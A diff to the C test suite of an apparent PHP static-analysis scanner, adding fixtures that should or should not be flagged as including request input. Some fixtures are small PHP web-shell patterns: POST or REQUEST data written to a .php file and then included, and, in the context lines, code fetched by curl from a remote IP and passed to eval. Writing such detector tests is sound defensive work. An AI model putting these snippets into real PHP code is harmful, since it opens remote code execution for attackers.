@@ -1018,6 +1018,16 @@ test_tools(void)
 static void
 test_callbacks_more(void)
 {
+	/* request input written to a file, then that file included */
+	T_HAS("x.php", "<?php\n$t = tempnam('/tmp', 'c');\nfile_put_contents($t, '<?php ' . $_POST['c']);\ninclude($t);\n",
+	      PHPSCAN_INCLUDE_OF_INPUT, PHPSCAN_WEAK, 4);
+	T_HAS("x.php", "<?php\n$f = fopen(dirname(__FILE__) . '/s.php', 'w');\nfwrite($f, $_REQUEST['d']);\nfclose($f);\n"
+		       "require dirname(__FILE__) . '/s.php';\n",
+	      PHPSCAN_INCLUDE_OF_INPUT, PHPSCAN_WEAK, 5);
+	/* ... another file included: the page's own header */
+	T_CLEAN("x.php", "<?php\nfile_put_contents('media/' . md5($_POST['n']) . '.jpg', base64_decode($_POST['img']));\n"
+			 "require 'top.php';\n");
+	T_CLEAN("x.php", "<?php\n$f = fopen('log.txt', 'a');\nfwrite($f, $_POST['msg']);\nrequire 'footer.php';\n");
 	/* what a URL fetched through curl returns is the sender's: run, it is input run */
 	T_HAS("x.php", "<?php\n$ch = curl_init('http://198.51.100.7/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
 		       "$code = curl_exec($ch);\neval('?>' . $code);\n",
